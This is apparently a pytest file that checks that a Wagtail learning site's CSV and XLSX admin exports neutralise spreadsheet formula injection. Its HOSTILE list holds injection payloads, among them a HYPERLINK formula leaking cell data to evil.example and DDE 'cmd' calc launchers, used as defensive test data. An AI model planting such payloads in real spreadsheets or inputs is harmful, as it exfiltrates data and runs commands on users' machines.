"""Every CSV/XLSX export of the site, fed values starting with = + - @ tab and CR, has no cell a spreadsheet would
evaluate (issue 15 item 3, docs/security.md#spreadsheet-exports; lms.exports.guard_spreadsheet_exports).

The exports are found, not listed: every admin route whose view is a Wagtail SpreadsheetExportMixin (our viewsets and
reports, and Wagtail's own: site history, locked and aging pages, redirects, form submissions …), plus the survey's
hand-written export. Each is fetched as a superuser in both formats and parsed with csv and openpyxl."""

import csv
import io
import re
from collections import Counter
from datetime import timedelta

import openpyxl
import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from lms.audit import audit_record
from lms.exports import csv_safe
from tests.certificates.factories import CertificateFactory
from tests.courses.factories import build_course, enrol
from tests.lms.factories import InstitutionFactory, UserFactory
from tests.recruitment.factories import ApplicationFactory, CohortFactory, InterviewSlotFactory
from tests.supervision.factories import (
    AdvisorAssignmentFactory,
    AdvisorFactory,
    EngagementPeriodFactory,
    SessionFactory,
    SupervisionGroupFactory,
    SupporterFactory,
)
from tests.survey.factories import AnswerFactory, SurveyPageFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")


def evaluated(cell) -> bool:
    """Would a spreadsheet evaluate this CSV cell? (A plain number, even negative, is data, not a formula.)"""
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell.strip())


def export_routes():
    """(route, name) of every argument-free admin route whose view can export a spreadsheet."""

    def walk(patterns, prefix="", namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                ns = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), ns)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            route = prefix + str(pattern.pattern)
            if (
                view_class
                and issubclass(view_class, SpreadsheetExportMixin)
                and "<" not in route
                and "(" not in route
                and not route.endswith("results/")
            ):
                yield "/" + route.lstrip("^")

    return sorted(set(walk(get_resolver().url_patterns)))


@pytest.fixture
def hostile_world(db, settings, tmp_path):
    """One row with a hostile text in every export we can reach: names, titles, topics, places, answers."""

    settings.CERTIFICATES_KEY_DIR = str(tmp_path / "keys")
    settings.CERTIFICATES_AUTO_GENERATE_KEY = True
    institution = InstitutionFactory(name=HOSTILE[5])
    superuser = UserFactory(is_superuser=True, is_staff=True, with_totp=True, full_name=HOSTILE[0])
    trainee = UserFactory(role="Trainees", institution=institution, full_name=HOSTILE[1])
    course_page = build_course(modules=1, title=HOSTILE[2])
    enrol(trainee, course_page)
    CertificateFactory(holder=trainee, course=course_page.course)
    advisor = AdvisorFactory(full_name=HOSTILE[3])
    supporter = SupporterFactory(full_name=HOSTILE[4], institution=institution)
    group = SupervisionGroupFactory(name=HOSTILE[0])
    SessionFactory(topic=HOSTILE[1], place=HOSTILE[2], group=group, advisor=advisor)
    AdvisorAssignmentFactory(advisor=advisor, supporter=supporter)
    EngagementPeriodFactory(supporter=supporter, institution=institution)
    cohort = CohortFactory(name=HOSTILE[3])
    ApplicationFactory(cohort=cohort, full_name=HOSTILE[4], study_programme=HOSTILE[5], institution=institution)
    InterviewSlotFactory(place=HOSTILE[0], institution=institution, starts_at=timezone.now() + timedelta(days=2))
    audit_record(action="test.hostile", actor=superuser, detail={"note": HOSTILE[1]})
    survey = SurveyPageFactory(
        title=HOSTILE[3],
        questions=[{"label": HOSTILE[4], "field_type": "multiline", "required": False}],
    )
    field_name = survey.form_fields.first().clean_name
    for text in HOSTILE:
        AnswerFactory(page=survey, form_data={field_name: text})
    client = Client()
    client.force_login(superuser)
    return {"client": client, "survey": survey}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(_body(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def check(response, fmt, where, neutralised):
    assert response.status_code == 200, (where, response.status_code)
    if fmt == "csv":
        cells = csv_cells(response)
        bad = [cell for cell in cells if evaluated(cell)]
        neutralised[where] += sum(1 for cell in cells if cell[:2] in {"'" + start for start in FORMULA_STARTS})
    else:
        cells = xlsx_cells(response)
        bad = [cell.value for cell in cells if cell.data_type == "f"]
        neutralised[where] += sum(
            1 for cell in cells if isinstance(cell.value, str) and (evaluated(cell.value) or evaluated(cell.value[1:]))
        )
    assert bad == [], (where, fmt, bad[:3])


def test_the_discovery_finds_the_exports_we_know():
    routes = export_routes()
    for known in (
        "/admin/training/progress/",
        "/admin/supervision/reports/attendance/",
        "/admin/audit-log/",
        "/admin/certificates/records/",
        "/admin/reports/site-history/",
        "/admin/recruitment_slots/",
    ):
        assert known in routes


def test_no_export_has_a_cell_a_spreadsheet_would_evaluate(hostile_world):
    client = hostile_world["client"]
    neutralised = Counter()
    exported = []
    for route in export_routes():
        for fmt in ("csv", "xlsx"):
            response = client.get(route, {"export": fmt})
            content_type = response.get("Content-Type", "")
            if response.status_code != 200 or not ("csv" in content_type or "spreadsheet" in content_type):
                continue  # this listing has no export (list_export empty)
            check(response, fmt, route, neutralised)
            exported.append((route, fmt))
    survey = hostile_world["survey"]
    submissions = reverse("wagtailforms:list_submissions", args=[survey.pk])
    for fmt in ("csv", "xlsx"):
        response = client.get(submissions, {"export": fmt})
        if response.status_code == 200:  # the survey sends Wagtail's submissions list to its own results page
            check(response, fmt, submissions, neutralised)
            exported.append((submissions, fmt))
        own = reverse(f"survey_admin:export_{fmt}", args=[survey.pk])
        check(client.get(own), fmt, own, neutralised)
        exported.append((own, fmt))
    assert len(exported) >= 30, exported
    # The hostile values did reach the exports (otherwise the test proves nothing): each of these holds some.
    for route in (
        "/admin/training/progress/",
        "/admin/certificates/records/",
        "/admin/supervision_sessions/",
        "/admin/supervision_groups/",
        "/admin/recruitment_applications/",
        "/admin/recruitment_slots/",
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/supervision/reports/attendance/",
        "/admin/supervision_assignments/",
        "/admin/supervision_supporters/",
        "/admin/audit-log/",
        reverse("survey_admin:export_csv", args=[survey.pk]),
        reverse("survey_admin:export_xlsx", args=[survey.pk]),
    ):
        assert neutralised[route] > 0, (route, sorted(neutralised.items()), exported)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_guard_also_covers_headings(value):
    assert not evaluated(csv_safe(value))
